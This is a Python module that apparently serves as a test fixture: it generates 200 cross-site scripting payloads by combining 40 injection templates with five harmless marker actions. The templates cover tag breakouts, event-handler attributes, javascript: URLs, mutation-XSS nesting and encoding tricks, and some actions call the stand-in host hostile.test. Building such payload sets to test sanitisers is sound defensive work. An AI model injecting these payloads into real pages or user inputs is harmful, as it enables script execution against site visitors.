"""Two hundred texts that want to be markup, script, a request or a template, each with a mark of its own."""

DEEDS = (
    "window.hostile=1", "alert('hostile')", "console.log('hostile')", "fetch('http://hostile.test/')",
    "location='http://hostile.test/'",
)  # fmt: skip
"""What they would do, were one of them ever run."""

PLACES = (
    "<script>{deed}</script>",
    "</script><script>{deed}</script>",
    "</style><script>{deed}</script>",
    "</textarea></title></noscript><script>{deed}</script>",
    "</pre></td></tr></table></details></section></main><script>{deed}</script>",
    '"><script>{deed}</script>',
    "'><script>{deed}</script>",
    "--><script>{deed}</script><!--",
    "]]><script>{deed}</script>",
    "<img src=x onerror={deed}>",
    '<img src="x" onerror="{deed}">',
    '" onmouseover="{deed}" autofocus onfocus="{deed}" x="',
    "' onclick='{deed}' autofocus onfocus='{deed}' x='",
    "` onfocus=`{deed}` autofocus x=`",
    "<svg onload={deed}>",
    "<svg><script>{deed}</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={deed}>",
    '<svg></p><style><a id="</style><img src=1 onerror={deed}>">',
    '<noscript><p title="</noscript><img src=x onerror={deed}>">',
    "<iframe srcdoc='<script>parent.{deed}</script>'></iframe>",
    '<iframe src="javascript:{deed}"></iframe>',
    '<a href="javascript:{deed}" autofocus>here</a>',
    '<object data="javascript:{deed}"></object>',
    '<embed src="javascript:{deed}">',
    '<form action="javascript:{deed}"><button autofocus>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:{deed}">',
    '<base href="http://hostile.test/"><img src=x onerror={deed}>',
    '<link rel="stylesheet" href="http://hostile.test/a.css"><style>*{{background:url(http://hostile.test/)}}</style>',
    "<details open ontoggle={deed}>",
    "<video><source onerror={deed}></video>",
    "<template><script>{deed}</script></template>",
    "<!--<img src='--><img src=x onerror={deed}//'>",
    "{{{{ {deed} }}}} {{% raw %}}<script>{deed}</script>{{% endraw %}}",
    "[x](javascript:{deed}) ![x](http://hostile.test/a.png) <http://hostile.test>",
    "# <img src=x onerror={deed}>\n\n```html\n<script>{deed}</script>\n```",
    "| a |\n|---|\n| <img src=x onerror={deed}> |",
    "&lt;script&gt;{deed}&lt;/script&gt; &#60;img src=x onerror={deed}&#62;",
    "+ADw-script+AD4-{deed}+ADw-/script+AD4-",
    "\ufeff\u202e<scr\u0000ipt>{deed}</scr\u200bipt>\u2028\u2029",
    "\ue000<script>{deed}</script>\ue001 `<b onclick={deed}>`",
)
"""Where in a page they would want to be read, as formats of the deed."""

HOSTILE = tuple(place.format(deed=deed) for place in PLACES for deed in DEEDS)
"""All of them."""
